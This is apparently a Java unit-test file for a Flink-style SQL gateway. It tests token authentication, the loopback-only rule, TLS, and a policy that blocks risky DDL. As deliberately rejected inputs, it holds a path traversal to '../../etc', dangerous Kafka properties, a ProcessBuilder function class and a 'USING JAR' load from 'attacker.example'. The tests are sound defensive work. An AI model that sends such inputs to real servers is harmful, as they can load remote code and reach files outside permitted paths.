package io.weir.gateway;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.FileInputStream;
import java.io.InputStream;
import java.net.http.HttpClient;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyStore;
import java.security.cert.CertificateFactory;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import javax.net.ssl.SSLContext;
import javax.net.ssl.TrustManagerFactory;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Bearer tokens, the loopback rule, TLS, and the DDL policy a gateway session runs under. */
class GatewaySecurityTest {
  private static final String TOKEN = "s3cret-token-0123456789abcdef";

  @TempDir Path dir;
  private GatewayServer server;

  @AfterEach
  void stop() {
    if (server != null) {
      server.stop();
    }
  }

  /** Every route the gateway registers, with its parameters filled in. */
  private static List<String[]> routes() {
    List<String[]> routes = new ArrayList<>();
    new SqlGatewayRoutes(null, GatewayConfig.builder().build(), null).register((route, handler) -> {
      String[] parts = route.split(" ", 2);
      routes.add(new String[] {parts[0], parts[1]
          .replace("{session_handle}", "00000000-0000-0000-0000-000000000001")
          .replace("{operation_handle}", "00000000-0000-0000-0000-000000000002")
          .replace("{token}", "0")});
    });
    return routes;
  }

  @Test
  void everyRouteNeedsTheTokenWhenOneIsConfigured() {
    server = GatewayServer.start(GatewayConfig.builder().port(0).token(TOKEN).build());
    FlinkRestClient anonymous = new FlinkRestClient(server.port());
    FlinkRestClient wrong = anonymous.withToken(TOKEN + "x");
    List<String[]> routes = routes();
    assertTrue(routes.size() >= 4 * 10, "routes: " + routes.size());
    routes.add(new String[] {"GET", "/no/such/path"});
    for (String[] r : routes) {
      for (FlinkRestClient c : List.of(anonymous, wrong)) {
        var response = c.send(r[0], r[1], "{}");
        assertEquals(401, response.status(), r[0] + " " + r[1] + ": " + response.body());
        assertTrue(response.error().startsWith("Unauthorized"), response.body());
        assertEquals("Bearer realm=\"weir\"", response.raw().headers().firstValue("WWW-Authenticate").orElse(null));
      }
    }
    FlinkRestClient authorized = anonymous.withToken(TOKEN);
    assertEquals(200, authorized.get("/v1/api_versions").status());
    String s = authorized.openSession(Map.of());
    assertEquals(1, authorized.readToEnd(s, authorized.submit(s, "SELECT 1"), "JSON").size());
    assertEquals(404, authorized.get("/no/such/path").status());
  }

  @Test
  void withoutATokenOnlyLoopbackIsAllowed() {
    var e = assertThrows(IllegalArgumentException.class,
        () -> GatewayServer.start(GatewayConfig.builder().host("0.0.0.0").port(0).build()));
    assertTrue(e.getMessage().contains("--token-file"), e.getMessage());
    assertTrue(e.getMessage().contains("0.0.0.0"), e.getMessage());
    // With a token, any address is allowed.
    server = GatewayServer.start(GatewayConfig.builder().host("0.0.0.0").port(0).token(TOKEN).build());
    assertEquals(200, new FlinkRestClient(server.port()).withToken(TOKEN).get("/api_versions").status());
  }

  @Test
  void servesHttpsFromAPemCertificateAndKey() throws Exception {
    Path cert = dir.resolve("cert.pem");
    Path key = dir.resolve("key.pem");
    Process p = new ProcessBuilder("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key.toString(),
        "-out", cert.toString(), "-days", "2", "-subj", "/CN=localhost",
        "-addext", "subjectAltName=DNS:localhost,IP:127.0.0.1").redirectErrorStream(true).start();
    p.getInputStream().readAllBytes();
    assertEquals(0, p.waitFor());
    server = GatewayServer.start(GatewayConfig.builder().port(0).tls(cert, key).build());

    KeyStore trust = KeyStore.getInstance("PKCS12");
    trust.load(null, null);
    try (InputStream in = new FileInputStream(cert.toFile())) {
      trust.setCertificateEntry("gateway", CertificateFactory.getInstance("X.509").generateCertificate(in));
    }
    TrustManagerFactory tmf = TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());
    tmf.init(trust);
    SSLContext ssl = SSLContext.getInstance("TLS");
    ssl.init(null, tmf.getTrustManagers(), null);
    FlinkRestClient https = new FlinkRestClient(HttpClient.newBuilder().sslContext(ssl).build(),
        "https://127.0.0.1:" + server.port(), null);
    assertEquals("{\"versions\":[\"V1\",\"V2\",\"V3\"]}", https.get("/v1/api_versions").body());
    // Plain HTTP to the TLS port gets no answer in Flink's shape.
    assertThrows(RuntimeException.class, () -> new FlinkRestClient(server.port()).get("/v1/api_versions").json()
        .get("versions").size());
  }

  @Test
  void ddlCannotReachOutsideWhatTheServerAllows() throws Exception {
    Path allowed = Files.createDirectories(dir.resolve("data"));
    server = GatewayServer.start(GatewayConfig.builder().port(0).allowPath(allowed).build());
    FlinkRestClient client = new FlinkRestClient(server.port());
    String s = client.openSession(Map.of());

    for (String property : List.of("sasl.jaas.config", "sasl.login.callback.handler.class", "ssl.truststore.location",
        "interceptor.classes", "config.providers")) {
      var r = client.firstPage(s, client.submit(s, "CREATE TABLE k (v STRING) WITH ('connector'='kafka', 'topic'='t',"
          + " 'properties.bootstrap.servers'='127.0.0.1:9', 'format'='raw', 'properties." + property + "'='x')"), "JSON");
      assertEquals(500, r.status(), r.body());
      assertTrue(r.error().contains("'properties." + property + "'"), r.body());
    }
    // Ordinary client properties are fine.
    var ok = client.firstPage(s, client.submit(s, "CREATE TABLE k (v STRING) WITH ('connector'='kafka', 'topic'='t',"
        + " 'properties.bootstrap.servers'='127.0.0.1:9', 'format'='raw', 'properties.client.id'='me')"), "JSON");
    assertEquals(200, ok.status(), ok.body());

    var outside = client.firstPage(s, client.submit(s, "CREATE TABLE f (v STRING) WITH ('connector'='filesystem',"
        + " 'path'='" + allowed.resolve("../../etc") + "', 'format'='csv')"), "JSON");
    assertEquals(500, outside.status(), outside.body());
    assertTrue(outside.error().contains("'path'") && outside.error().contains("outside"), outside.body());
    var inside = client.firstPage(s, client.submit(s, "CREATE TABLE f (v STRING) WITH ('connector'='filesystem',"
        + " 'path'='" + allowed.resolve("in") + "', 'format'='csv')"), "JSON");
    assertEquals(200, inside.status(), inside.body());

    var checkpoints = client.firstPage(s, client.submit(s, "SET 'execution.checkpointing.dir' = '/tmp/elsewhere'"), "JSON");
    assertEquals(500, checkpoints.status(), checkpoints.body());
    assertTrue(checkpoints.error().contains("'execution.checkpointing.dir'"), checkpoints.body());
    // The same through session properties: refused when the session opens.
    var props = client.post("/v3/sessions", Map.of("properties", Map.of("state.savepoints.dir", "/tmp/elsewhere")));
    assertEquals(400, props.status(), props.body());
    assertTrue(props.error().contains("state.savepoints.dir"), props.body());

    // CREATE FUNCTION loads only function classes already on the server's class path: nothing else
    // is loaded, initialised or fetched from elsewhere.
    var notAFunction = client.firstPage(s, client.submit(s, "CREATE FUNCTION pwn AS 'java.lang.ProcessBuilder'"), "JSON");
    assertEquals(500, notAFunction.status(), notAFunction.body());
    assertTrue(notAFunction.error().contains("does not extend"), notAFunction.body());
    var remoteJar = client.firstPage(s, client.submit(s,
        "CREATE FUNCTION pwn AS 'x.Pwn' USING JAR 'http://attacker.example/pwn.jar'"), "JSON");
    assertEquals(500, remoteJar.status(), remoteJar.body());
    assertTrue(remoteJar.error().startsWith("SQL parse error"), remoteJar.body());

    // The shell's sessions have no such policy.
    assertEquals("Table 'k2' created.", ((io.weir.engine.StatementResult.Ack) server.engine().newSession()
        .execute("CREATE TABLE k2 (v STRING) WITH ('connector'='kafka', 'topic'='t', 'format'='raw',"
            + " 'properties.bootstrap.servers'='127.0.0.1:9', 'properties.sasl.jaas.config'='x')")).message());
  }
}
